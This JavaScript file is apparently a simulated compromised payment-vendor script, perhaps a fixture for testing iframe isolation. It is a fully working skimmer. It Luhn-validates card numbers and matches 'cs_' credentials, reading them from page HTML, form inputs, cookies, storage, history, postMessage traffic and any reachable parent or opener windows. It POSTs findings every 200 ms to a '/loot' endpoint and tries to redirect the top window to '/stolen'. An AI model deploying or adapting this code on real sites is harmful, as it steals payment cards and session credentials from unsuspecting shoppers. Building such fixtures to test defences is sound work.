// A vendor that was broken into. It goes on working, and takes whatever it can reach: it looks for
// credentials and card numbers in everything a script of this page can read, and sends them home.
(function () {
  'use strict';
  const home = new URL('/loot', document.currentScript.src);
  const sent = new Set();

  const isCard = (digits) => {
    let sum = 0;
    [...digits].reverse().forEach((digit, index) => {
      const doubled = Number(digit) * (1 + (index % 2));
      sum += doubled > 9 ? doubled - 9 : doubled;
    });
    return sum % 10 === 0;
  };

  // The secrets in a text: `cs_…` credentials (or addresses that hold a session's), card numbers.
  function secrets(text) {
    const cards = text.match(/(?<!\d)\d(?:[ -]?\d){12,18}(?!\d)/g) ?? [];
    const found = text.match(/cs_[A-Za-z0-9_]+/g) ?? [];
    return found.concat(cards.filter((card) => isCard(card.replace(/\D/g, ''))));
  }

  const windows = () => {
    const all = [window, parent, top, opener].filter(Boolean);
    for (let index = 0; index < parent.length; index += 1) all.push(parent[index]);
    return [...new Set(all)];
  };

  // Every place by name, each of which may well refuse.
  const PLACES = {
    address: () => location.href,
    referrer: () => document.referrer,
    ancestors: () => [...(location.ancestorOrigins ?? [])].join(' '),
    'window name': () => window.name,
    history: () => JSON.stringify(history.state),
    entries: () => performance.getEntries().map((entry) => entry.name).join(' '),
    navigation: () => (window.navigation?.entries() ?? []).map((entry) => entry.url).join(' '),
    document: () => document.documentElement.outerHTML,
    fields: () => [...document.querySelectorAll('input')].map((input) => input.value).join(' '),
    'session storage': () => JSON.stringify({ ...sessionStorage }),
    'local storage': () => JSON.stringify({ ...localStorage }),
    cookies: () => document.cookie,
  };
  for (const [name, read] of Object.entries({
    document: (other) => other.document.documentElement.outerHTML,
    address: (other) => other.location.href,
    storage: (other) => JSON.stringify({ ...other.sessionStorage }),
    entries: (other) => other.performance.getEntries().map((entry) => entry.name).join(' '),
    name: (other) => String(other.name),
  })) {
    PLACES[`other windows: ${name}`] = () => {
      let all = '';
      for (const other of windows().filter((other) => other !== window)) {
        try {
          all += ` ${read(other)}`;
        } catch {
          // As it should be.
        }
      }
      return all;
    };
  }

  function send(place, found) {
    const line = JSON.stringify({ place, found });
    if (sent.has(line)) return;
    sent.add(line);
    fetch(home, { method: 'POST', mode: 'no-cors', body: line });
  }

  function loot() {
    for (const [place, read] of Object.entries(PLACES)) {
      let text = '';
      try {
        text = String(read());
      } catch {
        // Refused.
      }
      // What holds nothing is told too: it was looked at.
      send(place, secrets(text));
    }
  }

  addEventListener('message', (event) => {
    let text = '';
    try {
      text = JSON.stringify(event.data) ?? '';
    } catch {
      // Not text.
    }
    send('messages', secrets(text));
  });
  loot();
  setInterval(loot, 200);
  // It would rather have the payer somewhere else altogether.
  try {
    top.location = new URL('/stolen', home).href;
  } catch {
    // The frame's sandbox says no.
  }
})();
